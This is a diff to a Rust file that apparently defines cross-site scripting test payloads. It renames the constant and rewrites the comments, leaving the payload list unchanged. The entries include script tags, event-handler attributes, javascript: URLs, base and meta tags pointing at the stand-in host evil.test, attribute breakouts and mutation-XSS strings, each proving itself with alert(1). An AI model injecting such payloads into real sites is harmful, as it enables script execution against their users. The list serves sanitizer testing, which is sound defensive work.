@@ -1,9 +1,8 @@
-//! What strangers write where text can stand, to run a script in a reader's browser. Each calls
-//! `alert(1)` or asks for `//evil.test` if it is taken for anything but text. All of them are our
-//! own.
+//! XSS payloads. Each calls `alert(1)` or requests `//evil.test` unless it is treated as text. All
+//! of them are our own.
 
-pub(crate) const STRINGS: &[&str] = &[
-    // Elements that run by themselves.
+pub(crate) const PAYLOADS: &[&str] = &[
+    // Elements that run without interaction.
     "<script>alert(1)</script>",
     "<SCRIPT>alert(1)</SCRIPT>",
     "<ScRiPt >alert(1)</sCrIpT >",
@@ -24,7 +23,7 @@ pub(crate) const STRINGS: &[&str] = &[
     "<svg><script href=data:,alert(1) /></svg>",
     "<svg><script>alert&#40;1&#41;</script></svg>",
     "<math><script>alert(1)</script></math>",
-    // Handlers.
+    // Event handlers.
     "<img src=x onerror=alert(1)>",
     "<img/src=x/onerror=alert(1)>",
     "<IMG SRC=x ONERROR=alert(1)>",
@@ -73,7 +72,7 @@ pub(crate) const STRINGS: &[&str] = &[
     "<a href=x oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>",
     "<input type=hidden oncontentvisibilityautostatechange=alert(1)>",
     "<div popover onbeforetoggle=alert(1)>",
-    // Addresses that run.
+    // URLs that run scripts.
     "javascript:alert(1)",
     "JaVaScRiPt:alert(1)",
     "java\tscript:alert(1)",
@@ -138,7 +137,7 @@ pub(crate) const STRINGS: &[&str] = &[
     "<applet code=javascript:alert(1)>",
     "<portal src=javascript:alert(1)>",
     "<fencedframe src=//evil.test>",
-    // What changes the page as a whole.
+    // Elements that affect the whole page.
     "<base href=//evil.test/>",
     "<base href=javascript:/a/-alert(1)//>",
     "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
@@ -170,7 +169,7 @@ pub(crate) const STRINGS: &[&str] = &[
     "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>press</maction></math>",
     "<math href=javascript:alert(1)>press</math>",
     "<math><mtext><script>alert(1)</script></mtext></math>",
-    // Out of what text is in.
+    // Breaking out of the context.
     "\"><script>alert(1)</script>",
     "'><script>alert(1)</script>",
     "\" onmouseover=alert(1) x=\"",
@@ -215,7 +214,7 @@ pub(crate) const STRINGS: &[&str] = &[
     "#{alert(1)}",
     "[[${alert(1)}]]",
     "{\"__proto__\":{\"innerHTML\":\"<img src=x onerror=alert(1)>\"}}",
-    // What changes its meaning when it is read twice.
+    // Mutation XSS: the meaning changes when parsed twice.
     "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
     "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
     "<template><img src=x onerror=alert(1)></template>",
